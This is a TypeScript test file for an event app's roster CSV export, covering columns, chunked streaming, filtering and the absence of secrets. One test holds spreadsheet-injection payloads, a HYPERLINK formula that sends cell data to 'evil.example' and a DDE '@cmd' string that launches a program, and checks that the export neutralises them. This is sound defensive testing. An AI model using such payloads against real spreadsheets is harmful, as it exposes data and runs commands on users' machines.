import { parse } from "csv-parse/sync";
import { expect, test } from "vitest";
import { db, withTx } from "@/lib/db/database";
import { loadForm } from "@/lib/events/form-queries";
import { saveForm } from "@/lib/events/save-form";
import type { FormDefinition } from "@/lib/form/definition";
import { formOf, item } from "@/lib/form/form.fixture";
import type { Typed } from "@/lib/form/show-if";
import { authorizeEvent } from "@/lib/session/authorize-event";
import { describeDatabases } from "@/test/database";
import { insertEvent, signUp, type TestEvent } from "@/test/fixtures";
import { exportRoster } from "./export-roster";
import { issuePass } from "./pass-secrets";
import type { RegisterInput } from "./sign-up";
import { submitForm } from "./submit-form";
import { withdraw } from "./withdraw";

async function owner(event: TestEvent) {
  const access = await authorizeEvent(db(), event.organizerId, event.id, "own");
  if (!access) throw new Error("The organizer owns the event.");
  return access;
}

async function ask(event: TestEvent, form: FormDefinition): Promise<void> {
  const current = await loadForm(db(), event.id);
  await saveForm(await owner(event), form, current?.version ?? 0);
}

async function comes(event: TestEvent, who: Partial<RegisterInput> = {}, answers: Typed = {}) {
  const { firstName, lastName, email, ...sender } = signUp(event.slug, who);
  const form = await loadForm(db(), event.id);
  const outcome = await submitForm(
    { firstName, lastName, email, code: "", answers },
    sender,
    form,
    new Date(),
  );
  if (outcome.kind !== "registered" || !outcome.pass) throw new Error(`Not in: ${outcome.kind}`);
  return outcome.pass;
}

type Wanted = Partial<Parameters<typeof exportRoster>[1]>;

async function pieces(event: TestEvent, wanted: Wanted = {}): Promise<string[]> {
  const asked = { query: "", view: "all", locale: "en", zone: "Europe/Paris", ...wanted } as const;
  const all: string[] = [];
  for await (const piece of exportRoster(await owner(event), asked)) all.push(piece);
  return all;
}

/** Its rows by the heads of their columns, as a CSV parser reads the file. */
async function table(event: TestEvent, wanted: Wanted = {}): Promise<Record<string, string>[]> {
  const file = (await pieces(event, wanted)).join("");
  return parse(file, { bom: true, columns: true, relax_column_count: false });
}

describeDatabases("the export", () => {
  test("says of everybody what the roster and the form know, removed questions too", async () => {
    const event = await insertEvent();
    await ask(event, formOf(item("short"), item("several")));
    await comes(
      event,
      { email: "amara@example.org", source: { ref: "news letter", utm_source: "mail" } },
      { "q-short": ["Lyon"], "q-several": ["c-mon", "c-wed"] },
    );
    await ask(event, formOf(item("yes-no"), item("short", { label: { en: "Which city?" } })));
    const pass = await comes(event, { firstName: "Joe", locale: "fr" }, { "q-yesno": ["no"] });
    await withdraw(pass, new Date());
    const at = new Date("2026-07-01T10:00:00.250Z");
    await db().updateTable("registrations").set({ created_at: at }).execute();
    await db()
      .updateTable("registrations")
      .set({ withdrawn_at: new Date("2026-12-01T10:00:00Z") })
      .where("place", "=", "withdrawn")
      .execute();

    const rows = await table(event);
    const named = Object.fromEntries(rows.map((row) => [row["First name"], row]));
    expect(named.Amara).toEqual({
      "First name": "Amara",
      "Last name": "Diallo",
      Email: "amara@example.org",
      Place: "Taken",
      Link: "Waiting",
      Mail: "Queued",
      "Signed up (Europe/Paris)": "2026-07-01T12:00:00.250+02:00",
      "Gave up (Europe/Paris)": "",
      Language: "en",
      "Came from": "ref=news+letter&utm_source=mail",
      "Have you been here before?": "",
      "Which city?": "Lyon",
      "Which days? (not asked any more)": "Monday; Wednesday",
    });
    expect(named.Joe).toMatchObject({
      Place: "Given up",
      "Gave up (Europe/Paris)": "2026-12-01T11:00:00+01:00",
      Language: "fr",
      "Have you been here before?": "No",
      "Which days? (not asked any more)": "",
    });
  });

  test("runs nothing in a spreadsheet and breaks at nothing that people write", async () => {
    const event = await insertEvent();
    await ask(event, formOf(item("short", { label: { en: "=SUM(A1)" } }), item("long")));
    const hostile = {
      firstName: '=HYPERLINK("https://evil.example?x="&A1,"click")',
      lastName: "@cmd|' /C calc'!A0",
      email: "+491@example.org",
    };
    const text = 'a "quote", a comma;\na new line\n=1+1 🌊';
    await comes(
      event,
      { ...hostile, source: { ref: "-1+1" } },
      {
        "q-short": ["-2+3"],
        "q-long": [text],
      },
    );
    const [row] = await table(event);
    expect(row).toMatchObject({
      "First name": `'${hostile.firstName}`,
      "Last name": `'${hostile.lastName}`,
      Email: `'${hostile.email}`,
      "'=SUM(A1)": "'-2+3",
      "What do you bring?": text,
    });
  });

  test("comes piece by piece, everybody once, also those of one instant", async () => {
    const event = await insertEvent();
    const names = Array.from({ length: 11 }, (_, at) => `N${at}`);
    for (const firstName of names) await comes(event, { firstName });
    // Four of one instant, the others at one microsecond each.
    await db()
      .updateTable("registrations")
      .set({ created_at: new Date("2026-07-01T10:00:00Z") })
      .where("first_name", "in", ["N2", "N3", "N4", "N5"])
      .execute();
    const all = await pieces(event, { turn: 3 });
    expect(all.slice(1).map((piece) => piece.split("\r\n").length - 1)).toEqual([3, 3, 3, 2]);
    const rows = await table(event, { turn: 3 });
    expect(rows.map((row) => row["First name"]).sort()).toEqual([...names].sort());
    expect(
      rows
        .slice(-4)
        .map((row) => row["First name"])
        .sort(),
    ).toEqual(["N2", "N3", "N4", "N5"]);
  });

  test("keeps to the roster's view and search, and to its event", async () => {
    const event = await insertEvent();
    await comes(event, { firstName: "Ada" });
    const pass = await comes(event, { firstName: "Grace" });
    await withdraw(pass, new Date());
    await comes(await insertEvent(), { firstName: "Mary" });
    const names = async (wanted: Wanted) =>
      (await table(event, wanted)).map((row) => row["First name"]);
    expect(await names({})).toEqual(["Grace", "Ada"]);
    expect(await names({ view: "withdrawn" })).toEqual(["Grace"]);
    expect(await names({ query: "ada" })).toEqual(["Ada"]);
    expect(await names({ query: "nobody" })).toEqual([]);
  });

  test("holds no way in", async () => {
    const event = await insertEvent();
    const pass = await comes(event);
    const { id } = await db().selectFrom("registrations").select("id").executeTakeFirstOrThrow();
    const proved = await withTx((tx) => issuePass(tx, id, { proved: true }));
    const file = (await pieces(event)).join("");
    for (const secret of [pass, proved, "teams.microsoft.com", "/r/", "/j/"])
      expect(file).not.toContain(secret);
    expect(file.startsWith("\uFEFF")).toBe(true);
  });
});
